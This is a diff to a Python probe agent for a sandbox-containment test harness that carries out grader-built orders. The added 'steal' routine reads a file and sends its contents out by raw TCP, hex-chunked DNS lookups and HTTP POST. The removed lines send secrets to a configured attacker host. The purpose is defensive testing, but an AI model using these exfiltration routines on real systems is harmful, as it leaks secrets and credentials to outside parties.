@@ -8,7 +8,10 @@ script prints only proves that an attempt was made, and carries file contents
 out so a read can be proven by its per-run canary.
 
 It reads its orders from /opt/sandbox-lab/run/config.json (written by the
-grader, mounted read-only); it is never told the canaries.
+grader, mounted read-only): for each probe, the steps to carry out (read,
+write, an HTTP request, a raw TCP connection, a DNS lookup, steal = read and
+send every way), with every marker already built by the grader. It decides
+nothing and is never told the canaries.
 """
 
 import binascii
@@ -51,7 +54,6 @@ def err(exc):
 class Agent:
     def __init__(self, cfg):
         self.cfg = cfg
-        self.token = cfg["token"]
         self.proxy = cfg.get("proxy")
         self.timeout = float(cfg.get("timeout", 3.0))  # an HTTP exchange: the proxy answers fast, even to refuse
         # a raw connect to a black hole waits this long; the verdict never rests on it: a
@@ -90,7 +92,7 @@ class Agent:
             emit(probe, "write", False, err(exc), target=path)
 
     def http(self, probe, method, url, body=None):
-        req = urllib.request.Request(url, data=body, method=method, headers={"X-Sandbox-Lab": self.token})
+        req = urllib.request.Request(url, data=body, method=method, headers={"User-Agent": "sandbox-lab-agent"})
         try:
             with self.opener.open(req, timeout=self.timeout) as resp:
                 text = resp.read(2048).decode("utf-8", "replace")
@@ -120,68 +122,56 @@ class Agent:
         except OSError as exc:
             emit(probe, "dns", False, f"{name}: {err(exc)}", target=name)
 
-    # --- channels ----------------------------------------------------------------------
+    # --- orders ----------------------------------------------------------------------------
 
-    def send_everywhere(self, probe, label, payload):
-        """Every way out a real attacker would try, for one piece of data."""
-        attacker = self.cfg["attacker_host"]
-        data = payload if isinstance(payload, bytes) else payload.encode()
-        tag = f"{self.token}.{label}"
+    def steal(self, probe, step):
+        """Read one file, then send what it held every way the host listed."""
+        data = self.read(probe, step["path"])
+        if not data:
+            return
+        data = data.strip()[:200]
         jobs = []
-        ip = self.cfg.get("attacker_ip")
-        if ip:
-            jobs.append(lambda: self.tcp(probe, ip, self.cfg["tcp_port"], tag.encode() + b"\n" + data))
+        tcp = step.get("tcp")
+        if tcp:
+            jobs.append(lambda: self.tcp(probe, tcp["host"], tcp["port"], tcp["prefix"].encode() + data))
         hexdata = binascii.hexlify(data).decode()
         chunks = [hexdata[i:i + 60] for i in range(0, len(hexdata), 60)][:12]
         for i, chunk in enumerate(chunks):
-            name = f"{chunk}.{i}.{label}.{self.token}.{attacker}"
+            name = f"{chunk}.{i}{step['dns_suffix']}"
             jobs.append(lambda n=name: self.dns(probe, n))
-        for host in self.cfg["hosts"] + [f"{self.token}{label}.{attacker}"]:
-            jobs.append(lambda h=host: self.http(probe, "POST", f"https://{h}/upload/{tag}", data))
+        for url in step["urls"]:
+            jobs.append(lambda u=url: self.http(probe, "POST", u, data))
         with ThreadPoolExecutor(max_workers=32) as pool:
             list(pool.map(lambda f: f(), jobs))
 
-    # --- probes --------------------------------------------------------------------------
+    def step(self, probe, step):
+        op = step.get("op")
+        if op == "read":
+            self.read(probe, step["path"])
+        elif op == "write":
+            self.write(probe, step["path"], step["text"], append=bool(step.get("append")))
+        elif op == "http":
+            body = step.get("body")
+            self.http(probe, step["method"], step["url"], body.encode() if body is not None else None)
+        elif op == "tcp":
+            self.tcp(probe, step["host"], step["port"], step["payload"].encode())
+        elif op == "tcp_gateways":
+            hosts = gateways() + list(step["names"])
+            with ThreadPoolExecutor(max_workers=len(hosts)) as pool:
+                list(pool.map(lambda h: self.tcp(probe, h, step["port"], step["payload"].encode()), hosts))
+        elif op == "dns":
+            self.dns(probe, step["name"])
+        elif op == "steal":
+            self.steal(probe, step)
+        else:
+            emit(probe, "unknown", False, f"no such order in this runner: {op!r}")
 
     def run(self, spec):
-        pid, action = spec["id"], spec["action"]
-        if action == "read":
-            self.read(pid, spec["target"])
-        elif action == "write":
-            text = f"\n# sandbox-lab-write {self.token} {pid}\n"
-            self.write(pid, spec["target"], text, append=spec["kind"] == "attack")
-        elif action == "fetch":
-            for host in spec["hosts"]:
-                self.http(pid, "GET", f"https://{host}/fetch/{self.token}")
-        elif pid == "net-direct-ip":
-            ip = self.cfg.get("attacker_ip") or self.cfg["unreachable_ip"]
-            self.tcp(pid, ip, self.cfg["tcp_port"], f"{self.token}.direct\n".encode())
-        elif pid == "net-dns-exfil":
-            self.dns(pid, f"{self.token}dns.{self.cfg['attacker_host']}")
-            # and through the proxy, which looks names up for whoever it lets through
-            self.http(pid, "GET", f"http://{self.token}dnsvia.{self.cfg['attacker_host']}/")
-        elif pid == "net-attacker-domain":
-            self.http(pid, "GET", f"http://{self.cfg['attacker_host']}/ping/{self.token}")
-        elif pid == "net-host-gateway":
-            payload = f"{self.token}.host\n".encode()
-            hosts = gateways() + self.cfg.get("gateway_names", [])
-            with ThreadPoolExecutor(max_workers=len(hosts)) as pool:
-                list(pool.map(lambda h: self.tcp(pid, h, self.cfg["host_port"], payload), hosts))
-        elif pid == "exfil-via-allowed-domain":
-            hosts = self.cfg["hosts"] + [f"{self.token}up.{self.cfg['attacker_host']}"]
-            body = f"upload {self.token}".encode()
-            with ThreadPoolExecutor(max_workers=len(hosts)) as pool:
-                list(pool.map(lambda h: self.http(pid, "POST", f"https://{h}/upload/{self.token}", body), hosts))
-        elif pid == "exfil-secret":
-            def steal(i_path):
-                data = self.read(pid, i_path[1])
-                if data:
-                    self.send_everywhere(pid, f"s{i_path[0]}", data.strip()[:200])
-            paths = list(enumerate(self.cfg["secret_paths"]))
-            with ThreadPoolExecutor(max_workers=len(paths)) as pool:
-                list(pool.map(steal, paths))
-        else:
-            emit(pid, "unknown", False, "no such probe in this runner")
+        """Carry out one probe's steps (built by the grader), at once, then say it is done."""
+        pid, steps = spec["id"], spec["steps"]
+        if steps:
+            with ThreadPoolExecutor(max_workers=len(steps)) as pool:
+                list(pool.map(lambda st: self.step(pid, st), steps))
         emit(pid, "done", True)
 
 
